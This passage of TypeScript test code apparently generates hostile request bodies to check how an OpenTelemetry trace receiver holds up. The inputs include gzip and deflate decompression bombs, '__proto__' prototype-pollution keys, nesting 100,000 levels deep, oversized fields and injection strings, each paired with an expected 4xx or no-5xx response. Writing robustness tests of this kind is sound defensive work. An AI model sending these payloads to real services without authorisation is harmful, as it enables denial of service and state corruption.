    const seed = seeds[i % seeds.length];
    const [what, body] = mutate(seed.json, kindFor());
    add(
      'mutated-json',
      `#${i} ${seed.label}: ${what}`,
      JSON_TYPE,
      body,
      expectJson(body),
    );
  }

  // -- JSON with wrong types at every level, on two seeds
  const mutations = wrongTypeMutations();
  for (const s of [0, 1]) {
    for (const [label, expect, apply] of mutations) {
      const request = structuredClone(seedJson[s]);
      apply(request);
      add(
        'json-wrong-types',
        `${seeds[s].label}: ${label}`,
        JSON_TYPE,
        jsonBody(request),
        expect,
      );
    }
  }
  const seedText = seeds[0].json.toString('utf8');
  const textCases: Array<[string, string, HostileExpectation]> = [
    [
      'duplicate key, last wrong',
      '{"resourceSpans":[],"resourceSpans":5}',
      '4xx',
    ],
    [
      'duplicate key, last right',
      '{"resourceSpans":5,"resourceSpans":[]}',
      'no-5xx',
    ],
    ['__proto__ at the top', '{"__proto__":{"resourceSpans":5}}', 'no-5xx'],
    [
      '__proto__ in a resource',
      '{"resourceSpans":[{"__proto__":{"scopeSpans":5},"scopeSpans":[]}]}',
      'no-5xx',
    ],
    [
      '__proto__ in a span',
      seedText.replace('"traceId"', '"__proto__":{"traceId":"x"},"traceId"'),
      'no-5xx',
    ],
    [
      'constructor.prototype',
      '{"constructor":{"prototype":{"polluted":1}}}',
      'no-5xx',
    ],
    [
      'number 1e999 as intValue',
      seedText.replace(/"intValue":\d+/, '"intValue":1e999'),
      'no-5xx',
    ],
    [
      'lone surrogate escapes',
      seedText.replace(
        '"service.name","value":{"stringValue":"',
        '$&\\ud800\\udfff\\udc00',
      ),
      'no-5xx',
    ],
  ];
  for (const [label, text, expect] of textCases) {
    add(
      'json-wrong-types',
      `text: ${label}`,
      JSON_TYPE,
      Buffer.from(text, 'utf8'),
      expect,
    );
  }

  // -- bodies that are not an OTLP request at all
  const notRequests: Array<[string, Buffer]> = [
    ['plain text', Buffer.from('hello, receiver')],
    ['null', Buffer.from('null')],
    ['true', Buffer.from('true')],
    ['number', Buffer.from('42')],
    ['1e999999', Buffer.from('1e999999')],
    ['string', Buffer.from('"resourceSpans"')],
    ['empty array', Buffer.from('[]')],
    ['array of requests', Buffer.from(`[${seedText}]`)],
    ['lone brace', Buffer.from('{')],
    ['closing brace', Buffer.from('}')],
    ['single quotes', Buffer.from("{'resourceSpans':[]}")],
    ['unquoted keys', Buffer.from('{resourceSpans:[]}')],
    ['NaN', Buffer.from('NaN')],
    ['trailing garbage', Buffer.from(`${seedText} trailing`)],
    ['two objects', Buffer.from(`${seedText}${seedText}`)],
    ['trailing comma', Buffer.from('{"resourceSpans":[],}')],
    ['comment', Buffer.from('{/* c */"resourceSpans":[]}')],
    ['XML', Buffer.from('<?xml version="1.0"?><resourceSpans/>')],
    ['form encoded', Buffer.from('resourceSpans=1&x=2')],
    ['NUL bytes', Buffer.alloc(64)],
    ['UTF-16LE JSON', Buffer.from(`\ufeff${seedText}`, 'utf16le')],
    ['protobuf sent as JSON', seeds[0].protobuf],
    ['random bytes', dice.bytes(2048)],
    ['0xff run', Buffer.alloc(100, 0xff)],
    [
      'invalid UTF-8 around the object',
      Buffer.concat([Buffer.from([0xc3, 0x28]), seeds[0].json]),
    ],
  ];
  for (const [label, body] of notRequests) {
    add('not-a-request', `json: ${label}`, JSON_TYPE, body, expectJson(body));
  }
  add(
    'not-a-request',
    'json: UTF-8 BOM before a valid request',
    JSON_TYPE,
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), seeds[0].json]),
    'no-5xx',
  );
  add(
    'not-a-request',
    'json: invalid UTF-8 inside a string',
    JSON_TYPE,
    invalidUtf8InString(seeds[0].json),
    'no-5xx',
  );
  const protobufNotRequests: Array<[string, Buffer]> = [
    ['plain text', Buffer.from('hello, receiver')],
    ['JSON sent as protobuf', seeds[0].json],
    ['0xff run', Buffer.alloc(100, 0xff)],
    ['NUL bytes', Buffer.alloc(64)],
    ['one byte', Buffer.from([0x0a])],
    [
      'huge length prefix',
      Buffer.from([0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f, 0x00]),
    ],
    ['eleven-byte varint', Buffer.from([0x08, ...Array(10).fill(0x80), 0x01])],
  ];
  for (let i = 0; i < 6; i++)
    protobufNotRequests.push([
      `random bytes #${i}`,
      dice.bytes(dice.between(1, 4096)),
    ]);
  for (const [label, body] of protobufNotRequests) {
    add(
      'not-a-request',
      `protobuf: ${label}`,
      PROTOBUF_TYPE,
      body,
      expectProtobuf(body),
    );
  }

  // -- protobuf tags with wrong wire types and invalid field numbers
  const base = seeds[1].protobuf;
  const tags = tagPositions(base);
  const singleByteTags = tags.filter(t => t.field < 16);
  const byPath = new Map<string, TagPosition>();
  for (const t of singleByteTags)
    if (!byPath.has(t.path)) byPath.set(t.path, t);
  const chosenTags = [...byPath.values()].slice(0, 24);
  for (const t of chosenTags) {
    const rewrite = (tagByte: number) => {
      const body = Buffer.from(base);
      body[t.offset] = tagByte;
      return body;
    };
    // Wire types 6 and 7 do not exist; no conforming parser reads them.
    for (const wireType of [6, 7]) {
      add(
        'protobuf-wire-types',
        `${t.path} with wire type ${wireType}`,
        PROTOBUF_TYPE,
        rewrite(t.field * 8 + wireType),
        '4xx',
      );
    }
    // A valid but different wire type: read as an unknown field or refused.
    const other = dice.pick([0, 1, 2, 5].filter(w => w !== t.wireType));
    add(
      'protobuf-wire-types',
      `${t.path} with wire type ${other}`,
      PROTOBUF_TYPE,
      rewrite(t.field * 8 + other),
      'no-5xx',
    );
  }
  for (const t of chosenTags.slice(0, 8)) {
    const body = Buffer.from(base);
    body[t.offset] = t.wireType; // field number 0
    add(
      'protobuf-wire-types',
      `${t.path} as field number 0`,
      PROTOBUF_TYPE,
      body,
      '4xx',
    );
  }
  const wireTails: Array<[string, Buffer, HostileExpectation]> = [
    [
      'unknown field 99 varint appended',
      Buffer.from([0x98, 0x06, 0x01]),
      'no-5xx',
    ],
    ['unknown field 15 wire type 7 appended', Buffer.from([0x7f, 0x01]), '4xx'],
    ['lone end-group appended', Buffer.from([0x7c]), '4xx'],
    ['unterminated group appended', Buffer.from([0x7b, 0x08, 0x01]), '4xx'],
    [
      'complete unknown group appended',
      Buffer.from([0x7b, 0x08, 0x01, 0x7c]),
      'no-5xx',
    ],
    ['field 0 varint appended', Buffer.from([0x00, 0x01]), '4xx'],
  ];
  for (const [label, tail, expect] of wireTails) {
    add(
      'protobuf-wire-types',
      label,
      PROTOBUF_TYPE,
      Buffer.concat([base, tail]),
      expect,
    );
  }

  // -- compression: bombs, corrupt and mislabelled streams
  const zeros64 = constant('gzip zeros', () =>
    gzipSync(Buffer.alloc(64 * MiB), { level: 9 }),
  );
  add(
    'compression',
    'gzip bomb, 64 MiB of zeros, as JSON',
    JSON_TYPE,
    zeros64,
    '4xx',
    'gzip',
  );
  add(
    'compression',
    'gzip bomb, 64 MiB of zeros, as protobuf',
    PROTOBUF_TYPE,
    zeros64,
    '4xx',
    'gzip',
  );
  const padded = (size: number) => {
    const head = Buffer.from('{"resourceSpans":[],"padding":"');
    const tail = Buffer.from('"}');
    const body = Buffer.alloc(size, 0x20);
    head.copy(body, 0);
    tail.copy(body, size - tail.length);
    return body;
  };
  add(
    'compression',
    'JSON-padded gzip bomb, 64 MiB',
    JSON_TYPE,
    constant('gzip padded', () => gzipSync(padded(64 * MiB), { level: 9 })),
    '4xx',
    'gzip',
  );
  add(
    'compression',
    'deflate bomb, 64 MiB of zeros',
    JSON_TYPE,
    constant('deflate zeros', () =>
      deflateSync(Buffer.alloc(64 * MiB), { level: 9 }),
    ),
    '4xx',
    'deflate',
  );
  add(
    'compression',
    'gzip of a valid request exactly at the limit',
    JSON_TYPE,
    constant(`gzip limit ${maxBodyBytes}`, () =>
      gzipSync(padded(maxBodyBytes)),
    ),
    'no-5xx',
    'gzip',
  );
  add(
    'compression',
    'gzip of a valid request one byte over the limit',
    JSON_TYPE,
    constant(`gzip over ${maxBodyBytes}`, () =>
      gzipSync(padded(maxBodyBytes + 1)),
    ),
    '4xx',
    'gzip',
  );
  const gzSeed = gzipSync(seeds[0].json);
  const gzProto = gzipSync(seeds[0].protobuf);
  const corruptCrc = Buffer.from(gzSeed);
  corruptCrc[corruptCrc.length - 6] ^= 0xff;
  const corruptData = Buffer.from(gzSeed);
  corruptData[Math.floor(corruptData.length / 2)] ^= 0x5a;
  const compressed: Array<[string, string, Buffer, string]> = [
    ['not gzip at all', JSON_TYPE, Buffer.from('not gzip'), 'gzip'],
    ['gzip header only', JSON_TYPE, gzSeed.subarray(0, 10), 'gzip'],
    ['corrupt CRC', JSON_TYPE, corruptCrc, 'gzip'],
    ['corrupt deflate data', JSON_TYPE, corruptData, 'gzip'],
    [
      'trailing garbage after the gzip member',
      JSON_TYPE,
      Buffer.concat([gzSeed, Buffer.from('garbage')]),
      'gzip',
    ],
    ['gzip of a gzip', JSON_TYPE, gzipSync(gzSeed), 'gzip'],
    ['gzip labelled deflate', JSON_TYPE, gzSeed, 'deflate'],
    ['zlib labelled gzip', JSON_TYPE, deflateSync(seeds[0].json), 'gzip'],
    ['identity labelled gzip', JSON_TYPE, seeds[0].json, 'gzip'],
    [
      'gzip of random bytes, JSON',
      JSON_TYPE,
      gzipSync(dice.bytes(4096)),
      'gzip',
    ],
    [
      'gzip of random bytes, protobuf',
      PROTOBUF_TYPE,
      gzipSync(dice.bytes(4096)),
      'gzip',
    ],
    [
      'gzip of a truncated protobuf',
      PROTOBUF_TYPE,
      gzipSync(seeds[0].protobuf.subarray(0, 77)),
      'gzip',
    ],
    ['no body with gzip', PROTOBUF_TYPE, Buffer.alloc(0), 'gzip'],
  ];
  for (const at of [
    3,
    11,
    20,
    Math.floor(gzSeed.length / 2),
    gzSeed.length - 4,
    gzSeed.length - 1,
  ])
    compressed.push([
      `gzip truncated at ${at}`,
      JSON_TYPE,
      gzSeed.subarray(0, at),
      'gzip',
    ]);
  for (const at of [Math.floor(gzProto.length / 3), gzProto.length - 2])
    compressed.push([
      `gzip of protobuf truncated at ${at}`,
      PROTOBUF_TYPE,
      gzProto.subarray(0, at),
      'gzip',
    ]);
  for (const [label, contentType, body, encoding] of compressed) {
    let expect: HostileExpectation;
    try {
      const inflated =
        encoding === 'gzip' ? gunzipSync(body) : inflateSync(body);
      expect =
        contentType === JSON_TYPE
          ? expectJson(inflated)
          : expectProtobuf(inflated);
    } catch {
      expect = body.length === 0 ? 'no-5xx' : '4xx';
    }
    add('compression', label, contentType, body, expect, encoding);
  }
  const splitAt = Math.floor(seeds[0].json.length / 2);
  add(
    'compression',
    'two gzip members',
    JSON_TYPE,
    Buffer.concat([
      gzipSync(seeds[0].json.subarray(0, splitAt)),
      gzipSync(seeds[0].json.subarray(splitAt)),
    ]),
    'no-5xx',
    'gzip',
  );
  add(
    'compression',
    'gzip of an empty body',
    JSON_TYPE,
    gzipSync(Buffer.alloc(0)),
    'no-5xx',
    'gzip',
  );
  add(
    'compression',
    'x-gzip',
    JSON_TYPE,
    gzipSync(seeds[2].json),
    'no-5xx',
    'x-gzip',
  );
  add(
    'compression',
    'GZIP in capitals',
    PROTOBUF_TYPE,
    gzipSync(seeds[2].protobuf),
    'no-5xx',
    'GZIP',
  );
  add(
    'compression',
    'deflate',
    JSON_TYPE,
    deflateSync(seeds[1].json),
    'no-5xx',
    'deflate',
  );

  // -- oversized: 100k attributes, huge strings, the body limit
  const manyAttributes = Array.from({ length: 100_000 }, (_, i) =>
    kv(`app.attribute.${i}`, i % 2 ? int(i) : str(`value ${i}`)),
  );
  const hundredK = build.appRequest(
    HOSTILE_SEED_APPS.extractor,
    manyAttributes,
  );
  add(
    'oversized',
    'a span with 100,000 attributes, JSON',
    JSON_TYPE,
    jsonBody(hundredK),
    'no-5xx',
  );
  add(
    'oversized',
    'a span with 100,000 attributes, protobuf',
    PROTOBUF_TYPE,
    jsonRequestToProtobuf(
      build.appRequest(HOSTILE_SEED_APPS.extractor, manyAttributes),
    ),
    'no-5xx',
  );
  add(
    'oversized',
    '100,000 resource attributes, protobuf gzip',
    PROTOBUF_TYPE,
    gzipSync(
      jsonRequestToProtobuf(
        build.request(
          [
            kv('service.name', str(HOSTILE_SEED_APPS.extractor)),
            ...manyAttributes,
          ],
          [build.span(genAiKv('azure-gpt-4.1-mini'))],
        ),
      ),
    ),
    'no-5xx',
    'gzip',
  );
  add(
    'oversized',
    '30,000 spans without GenAI attributes, JSON gzip',
    JSON_TYPE,
    gzipSync(
      jsonBody(
        build.request(
          [kv('service.name', str(HOSTILE_SEED_APPS.extractor))],
          Array.from({ length: 30_000 }, () =>
            build.span([kv('http.route', str('/x'))]),
          ),
        ),
      ),
    ),
    'no-5xx',
    'gzip',
  );
  const megaModel = `model-${'m'.repeat(MiB)}`;
  add(
    'oversized',
    'a model name of 1 MB, JSON',
    JSON_TYPE,
    jsonBody(build.appRequest(HOSTILE_SEED_APPS.extractor, [], megaModel)),
    'no-5xx',
  );
  add(
    'oversized',
    'a model name of 1 MB, protobuf',
    PROTOBUF_TYPE,
    jsonRequestToProtobuf(
      build.appRequest(HOSTILE_SEED_APPS.extractor, [], megaModel),
    ),
    'no-5xx',
  );
  const tenMB = 'p'.repeat(10 * 1000 * 1000);
  add(
    'oversized',
    'an attribute value of 10 MB, JSON',
    JSON_TYPE,
    jsonBody(
      build.appRequest(HOSTILE_SEED_APPS.nda, [
        kv('gen_ai.input.messages', str(tenMB)),
      ]),
    ),
    'no-5xx',
  );
  add(
    'oversized',
    'an attribute value of 10 MB, protobuf gzip',
    PROTOBUF_TYPE,
    gzipSync(
      jsonRequestToProtobuf(
        build.appRequest(HOSTILE_SEED_APPS.extractor, [
          kv('app.blob', str(tenMB)),
        ]),
      ),
    ),
    'no-5xx',
    'gzip',
  );
  const hugeService = `svc-${'s'.repeat(100 * 1000)}`;
  add(
    'oversized',
    'a service.name of 100 KB, JSON',
    JSON_TYPE,
    jsonBody(build.appRequest(hugeService)),
    'no-5xx',
  );
  add(
    'oversized',
    'a service.name of 100 KB, protobuf',
    PROTOBUF_TYPE,
    jsonRequestToProtobuf(build.appRequest(hugeService)),
    'no-5xx',
  );
  add(
    'oversized',
    'an attribute key of 1 MB and a policy rule of 1 MB',
    JSON_TYPE,
    jsonBody(
      build.appRequest(HOSTILE_SEED_APPS.extractor, [
        kv(`k${'k'.repeat(MiB)}`, str('v')),
        kv('trellis.policy.decision', str('deny')),
        kv('trellis.policy.violation', str(`v${'v'.repeat(MiB)}`)),
        kv('trellis.policy.rule', str(`r${'r'.repeat(MiB)}`)),
        kv('trellis.microapp.ref', str(`microapp:default/${'n'.repeat(MiB)}`)),
      ]),
    ),
    'no-5xx',
  );
  add(
    'oversized',
    'a prompt attribute key of 100 KB with a NUL, on an app that masks PII',
    JSON_TYPE,
    jsonBody(
      build.appRequest(HOSTILE_SEED_APPS.extractor, [
        kv(`gen_ai.prompt.\u0000${'p'.repeat(100 * 1000)}`, str('hello')),
      ]),
    ),
    'no-5xx',
  );
  add(
    'oversized',
    'a valid request exactly at the limit, uncompressed',
    JSON_TYPE,
    constant(`limit ${maxBodyBytes}`, () => padded(maxBodyBytes)),
    'no-5xx',
  );
  add(
    'oversized',
    'one byte over the limit, uncompressed',
    JSON_TYPE,
    constant(`over ${maxBodyBytes}`, () => padded(maxBodyBytes + 1)),
    '4xx',
  );

  // -- media types and encodings the receiver does not speak
  const unsupportedTypes = [
    'text/plain',
    'text/json',
    'application/xml',
    'application/octet-stream',
    'multipart/form-data; boundary=xyz',
    'application/x-www-form-urlencoded',
    'application/grpc',
    'application/grpc+proto',
    'application/x-ndjson',
    'application/json-seq',
    'application/vnd.api+json',
    'application/jsonx',
    'application',
    '*/*',
    'application/*',
    ';;;',
    '',
  ];
  for (const type of unsupportedTypes) {
    add(
      'unsupported-media',
      `Content-Type "${type}"`,
      type,
      type.includes('proto') ? seeds[0].protobuf : seeds[0].json,
      '4xx',
    );
  }
  for (const type of [
    'Application/JSON; charset=UTF-8',
    'application/json;charset=latin1',
    'application/protobuf',
    'application/x-protobuf; proto=opentelemetry.proto.collector.trace.v1',
  ]) {
    add(
      'unsupported-media',
      `Content-Type "${type}" (accepted)`,
      type,
      type.includes('proto') ? seeds[0].protobuf : seeds[0].json,
      'no-5xx',
    );
  }
  for (const encoding of [
    'br',
    'zstd',
    'compress',
    'gzip, gzip',
    'gzip, deflate',
    'identity, gzip',
    'x-custom',
    'gzip;q=1.0',
    '*',
  ]) {
    add(
      'unsupported-media',
      `Content-Encoding "${encoding}"`,
      JSON_TYPE,
      gzSeed,
      '4xx',
      encoding,
    );
  }
  for (const encoding of ['identity', 'IDENTITY']) {
    add(
      'unsupported-media',
      `Content-Encoding "${encoding}"`,
      PROTOBUF_TYPE,
      seeds[0].protobuf,
      'no-5xx',
      encoding,
    );
  }

  // -- empty requests
  add('empty', 'JSON, no bytes', JSON_TYPE, Buffer.alloc(0), 'no-5xx');
  add('empty', 'protobuf, no bytes', PROTOBUF_TYPE, Buffer.alloc(0), 'no-5xx');
  add('empty', 'JSON {}', JSON_TYPE, Buffer.from('{}'), 'no-5xx');
  add(
    'empty',
    'JSON without resource spans',
    JSON_TYPE,
    Buffer.from('{"resourceSpans":[]}'),
    'no-5xx',
  );
  add(
    'empty',
    'JSON white space only',
    JSON_TYPE,
    Buffer.from(' \n\t\r '),
    'no-5xx',
  );
  add(
    'empty',
    'protobuf, one empty ResourceSpans',
    PROTOBUF_TYPE,
    Buffer.from([0x0a, 0x00]),
    'no-5xx',
  );
  add(
    'empty',
    'protobuf, empty resource and scope',
    PROTOBUF_TYPE,
    Buffer.from([0x0a, 0x04, 0x0a, 0x00, 0x12, 0x00]),
    'no-5xx',
  );

  // -- duplicated spans
  const dupRequest = structuredClone(seedJson[0]);
  const dupSpans = dupRequest.resourceSpans[0].scopeSpans[0].spans;
  dupRequest.resourceSpans[0].scopeSpans[0].spans = Array.from(
    { length: 1_000 },
    () => dupSpans[0],
  );
  add(
    'duplicates',
    'one span 1,000 times in a batch',
    JSON_TYPE,
    jsonBody(dupRequest),
    'no-5xx',
  );
  add(
    'duplicates',
    'a protobuf batch concatenated with itself',
    PROTOBUF_TYPE,
    Buffer.concat([seeds[1].protobuf, seeds[1].protobuf]),
    'no-5xx',
  );
  add('duplicates', 'a re-sent JSON batch', JSON_TYPE, seeds[0].json, 'no-5xx');
  add(
    'duplicates',
    'a re-sent protobuf batch, gzip',
    PROTOBUF_TYPE,
    gzipSync(seeds[0].protobuf),
    'no-5xx',
    'gzip',
  );
  const twoApps = structuredClone(seedJson[2]);
  const copy = structuredClone(twoApps.resourceSpans[0]);
  copy.resource.attributes = [
    kv('service.name', str(HOSTILE_SEED_APPS.extractor)),
  ];
  twoApps.resourceSpans.push(copy);
  add(
    'duplicates',
    'the same span claimed by two apps',
    JSON_TYPE,
    jsonBody(twoApps),
    'no-5xx',
  );
  const sameSpanId = build.appRequest(HOSTILE_SEED_APPS.extractor);
  const one = (sameSpanId.resourceSpans[0].scopeSpans[0].spans as any[])[0];
  sameSpanId.resourceSpans[0].scopeSpans[0].spans.push(
    ...Array.from({ length: 20 }, () => ({ ...one, traceId: dice.hexId(16) })),
  );
  add(
    'duplicates',
    'one span id under 21 trace ids',
    JSON_TYPE,
    jsonBody(sameSpanId),
    'no-5xx',
  );

  // -- injection strings as service.name, model and policy rule
  const target = HOSTILE_SEED_APPS.injection;
  INJECTION_STRINGS.forEach((text, i) => {
    const policy = [
      kv('trellis.policy.decision', str('deny')),
      kv('trellis.policy.violation', str('prompt_injection')),
      kv('trellis.policy.rule', str(text)),
    ];
    add(
      'injection',
      `#${i} as policy rule, JSON`,
      JSON_TYPE,
      jsonBody(build.appRequest(target, policy)),
      'no-5xx',
    );
    add(
      'injection',
      `#${i} as policy rule, protobuf`,
      PROTOBUF_TYPE,
      jsonRequestToProtobuf(build.appRequest(target, policy)),
      'no-5xx',
    );
    add(
      'injection',
      `#${i} as model`,
      JSON_TYPE,
      jsonBody(build.appRequest(target, [], text)),
      'no-5xx',
    );
    add(
      'injection',
      `#${i} as service.name`,
      i % 2 ? PROTOBUF_TYPE : JSON_TYPE,
      i % 2
        ? jsonRequestToProtobuf(build.appRequest(text))
        : jsonBody(build.appRequest(text)),
      'no-5xx',
    );
  });
  add(
    'injection',
    'as attribute keys and trellis.microapp.ref',
    JSON_TYPE,
    jsonBody(
      build.request(
        [
          kv('trellis.microapp.ref', str(INJECTION_STRINGS[0])),
          kv('service.name', str(INJECTION_STRINGS[5])),
        ],
        [
          build.span([
            ...genAiKv('azure-gpt-4.1'),
            ...INJECTION_STRINGS.map(s => kv(s, str(s))),
          ]),
        ],
      ),
    ),
    'no-5xx',
  );
  add(
    'injection',
    'lone surrogates in service.name and rule',
    JSON_TYPE,
    Buffer.from(
      JSON.stringify(
        build.appRequest('lone-\ud800-surrogate', [
          kv('trellis.policy.violation', str('other')),
          kv('trellis.policy.rule', str('rule-\udfff-x')),
        ]),
      ),
      'utf8',
    ),
    'no-5xx',
  );

  // -- absurd nesting
  const placeholder = '"@@DEEP@@"';
  const withDeepValue = (deep: string, resource = false) => {
    const request = build.appRequest(
      HOSTILE_SEED_APPS.extractor,
      resource ? [] : [kv('app.deep', '@@DEEP@@')],
    );
    if (resource)
      request.resourceSpans[0].resource.attributes.push(kv('deep', '@@DEEP@@'));
    return Buffer.from(
      JSON.stringify(request).replace(placeholder, deep),
      'utf8',
    );
  };
  const arrayNest = (depth: number) =>
    `${'{"arrayValue":{"values":['.repeat(
      depth,
    )}{"stringValue":"bottom"}${']}}'.repeat(depth)}`;
  const kvlistNest = (depth: number) =>
    `${'{"kvlistValue":{"values":[{"key":"k","value":'.repeat(
      depth,
    )}{"stringValue":"bottom"}${'}]}}'.repeat(depth)}`;
  const mixedNest = (depth: number) =>
    `${'{"arrayValue":{"values":[{"kvlistValue":{"values":[{"key":"k","value":'.repeat(
      depth / 2,
    )}{"intValue":"1"}${'}]}}]}}'.repeat(depth / 2)}`;
  add(
    'deep-nesting',
    'arrayValue 10,000 deep, JSON',
    JSON_TYPE,
    withDeepValue(arrayNest(10_000)),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'arrayValue 100,000 deep, JSON',
    JSON_TYPE,
    withDeepValue(arrayNest(100_000)),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'kvlistValue 10,000 deep, JSON',
    JSON_TYPE,
    withDeepValue(kvlistNest(10_000)),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'kvlist and array alternating 10,000 deep, JSON',
    JSON_TYPE,
    withDeepValue(mixedNest(10_000)),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'arrayValue 10,000 deep in a resource attribute, JSON',
    JSON_TYPE,
    withDeepValue(arrayNest(10_000), true),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'resourceSpans of arrays 100,000 deep',
    JSON_TYPE,
    Buffer.from(
      `{"resourceSpans":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
    ),
    '4xx',
  );
  add(
    'deep-nesting',
    'an unknown field of objects 100,000 deep',
    JSON_TYPE,
    Buffer.from(
      `{"resourceSpans":[],"x":${'{"a":'.repeat(100_000)}1${'}'.repeat(
        100_000,
      )}}`,
    ),
    'no-5xx',
  );
  // protobuf, built inside out in one pass: every level is a prefix of the one below.
  const protobufNest = (depth: number, kvlist: boolean) => {
    const bottom = lengthDelimited(1, Buffer.from('bottom')); // string_value
    const prefixes: Buffer[] = [];
    let size = bottom.length;
    for (let i = 0; i < depth; i++) {
      let prefix: Buffer;
      if (kvlist) {
        // AnyValue.kvlist_value (6) = KeyValueList { values (1) = KeyValue { key (1) = "k", value (2) } }
        const keyValue = 3 + 1 + varint(size).length + size;
        const list = 1 + varint(keyValue).length + keyValue;
        prefix = Buffer.concat([
          Buffer.from([0x32]),
          varint(list),
          Buffer.from([0x0a]),
          varint(keyValue),
          Buffer.from([0x0a, 0x01, 0x6b, 0x12]),
          varint(size),
        ]);
      } else {
        // AnyValue.array_value (5) = ArrayValue { values (1) }
        const array = 1 + varint(size).length + size;
        prefix = Buffer.concat([
          Buffer.from([0x2a]),
          varint(array),
          Buffer.from([0x0a]),
          varint(size),
        ]);
      }
      prefixes.push(prefix);
      size += prefix.length;
    }
    const deepValue = Buffer.concat([...prefixes.reverse(), bottom]);
    const schema = (name: string) =>
      ExportTraceServiceRequest.root.lookupType(
        `opentelemetry.proto.collector.trace.v1.${name}`,
      );
    const request = build.appRequest(HOSTILE_SEED_APPS.extractor) as any;
    const decoded = ExportTraceServiceRequest.decode(
      jsonRequestToProtobuf(request),
    ) as any;
    // The span's own fields, then one more attribute (field 9) holding the deep value.
    const span = Buffer.concat([
      Buffer.from(
        schema('Span')
          .encode(decoded.resourceSpans[0].scopeSpans[0].spans[0])
          .finish(),
      ),
      lengthDelimited(
        9,
        Buffer.concat([
          lengthDelimited(1, Buffer.from('app.deep')),
          lengthDelimited(2, deepValue),
        ]),
      ),
    ]);
    const resource = Buffer.from(
      schema('Resource').encode(decoded.resourceSpans[0].resource).finish(),
    );
    return lengthDelimited(
      1,
      Buffer.concat([
        lengthDelimited(1, resource),
        lengthDelimited(2, lengthDelimited(2, span)),
      ]),
    );
  };
  add(
    'deep-nesting',
    'arrayValue 1,000 deep, protobuf',
    PROTOBUF_TYPE,
    protobufNest(1_000, false),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'arrayValue 10,000 deep, protobuf',
    PROTOBUF_TYPE,
    protobufNest(10_000, false),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'kvlistValue 10,000 deep, protobuf',
    PROTOBUF_TYPE,
    protobufNest(10_000, true),
    'no-5xx',
  );
  add(
    'deep-nesting',
    'arrayValue 40,000 deep, protobuf',
    PROTOBUF_TYPE,
    protobufNest(40_000, false),
    'no-5xx',
  );

  return {
    payloads,
    injectionApp: target,
    injectionStrings: [...INJECTION_STRINGS],
    maxBodyBytes,
    nowMs: options.nowMs,
  };
}
